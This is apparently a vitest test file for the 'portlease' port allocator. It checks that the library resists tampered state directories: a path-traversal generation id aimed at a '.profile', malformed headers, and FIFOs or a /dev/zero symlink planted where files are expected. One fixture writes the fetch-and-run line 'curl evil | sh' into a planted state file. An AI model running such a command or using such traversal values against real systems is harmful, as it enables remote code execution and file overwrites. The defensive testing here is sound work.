import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { PortAllocator, StateIoError } from '../../src/index.js';
import { statePaths } from '../../src/store/state-dir.js';
import { currentBootId } from '../../src/base/proc.js';
import { freeRunBase } from '../helpers/sockets.js';
import { stateTest } from '../helpers/state-dir.js';

const it = stateTest;

// Anyone who can write a shared state directory could plant a FIFO or a device where
// portlease expects a file. Opening one for reading would block forever, deaf to signals.
const hasMkfifo = process.platform !== 'win32' && spawnSync('mkfifo', ['--version'], { stdio: 'ignore' }).status === 0;

describe('planted headers', () => {
  it('a generation id that is a path never makes portlease write outside the state directory', async ({ stateDir }) => {
    const stateFile = statePaths(stateDir).stateFile;
    const elsewhere = join(stateDir, 'elsewhere');
    mkdirSync(elsewhere);
    // Someone in the group plants a header whose generation id walks out through a symlink,
    // and a damaged record so that a copy would be kept.
    symlinkSync(elsewhere, `${stateFile}.damaged-x`);
    const bootId = currentBootId();
    writeFileSync(
      stateFile,
      `${JSON.stringify({ version: 3, gen: 'x/.profile', ...(bootId ? { bootId } : {}), claims: [{}] })}\ncurl evil | sh\n`,
    );
    const onWarning = () => undefined;
    process.on('warning', onWarning);
    try {
      const lease = await new PortAllocator({ stateDir }).claim({ base: await freeRunBase(1) });
      await lease.release();
    } finally {
      process.off('warning', onWarning);
    }
    expect(readdirSync(elsewhere)).toEqual([]);
    expect(readdirSync(stateDir).filter((name) => name.includes('.corrupt-'))).toHaveLength(1); // malformed: set aside
  });

  it('a header whose raw bytes do not begin as portlease writes them is set aside, not left to jam every claim', async ({ stateDir }) => {
    const stateFile = statePaths(stateDir).stateFile;
    const bootId = currentBootId();
    // Valid JSON, but with a space: the generation could not be read back from the raw bytes.
    writeFileSync(stateFile, `{"version":3, "gen":"abc"${bootId ? `,"bootId":"${bootId}"` : ''},"claims":[]}\n`);
    const onWarning = () => undefined;
    process.on('warning', onWarning);
    try {
      const base = await freeRunBase(1);
      const lease = await new PortAllocator({ stateDir }).claim({ base });
      expect(lease.port).toBe(base);
      await lease.release();
    } finally {
      process.off('warning', onWarning);
    }
    expect(existsSync(stateFile)).toBe(true);
  });
});

describe.skipIf(!hasMkfifo)(`planted files${hasMkfifo ? '' : ' (skipped: no mkfifo)'}`, () => {
  it('a FIFO as the state file is refused with PORTLEASE_STATE_IO at once, not waited on', async ({ stateDir }) => {
    execFileSync('mkfifo', [statePaths(stateDir).stateFile]);
    const error = await new PortAllocator({ stateDir }).claim({ base: await freeRunBase(1) }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(StateIoError);
    expect((error as Error).message).toMatch(/not a regular file/);
  });

  it('a symlink to /dev/zero as the state file is refused the same way', async ({ stateDir }) => {
    symlinkSync('/dev/zero', statePaths(stateDir).stateFile);
    const error = await new PortAllocator({ stateDir }).claim({ base: await freeRunBase(1) }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(StateIoError);
  });

  it('a FIFO as the sticky memory is read as empty and replaced by the claim, never waited on', async ({ stateDir }) => {
    execFileSync('mkfifo', [statePaths(stateDir).stickyFile]);
    const base = await freeRunBase(1);
    const allocator = new PortAllocator({ stateDir });
    const lease = await allocator.claim({ base, sticky: true, label: 'planted' });
    expect(lease.port).toBe(base);
    expect(allocator.listSticky()).toMatchObject([{ label: 'planted', ports: [base] }]);
    await lease.release();
  });

  it('a FIFO as the socket table cache is ignored (the table is read from the kernel) and the claim succeeds', async ({ stateDir }) => {
    execFileSync('mkfifo', [statePaths(stateDir).socketCacheFile]);
    const base = await freeRunBase(1);
    const lease = await new PortAllocator({ stateDir }).claim({ base });
    expect(lease.port).toBe(base);
    await lease.release();
  });
});
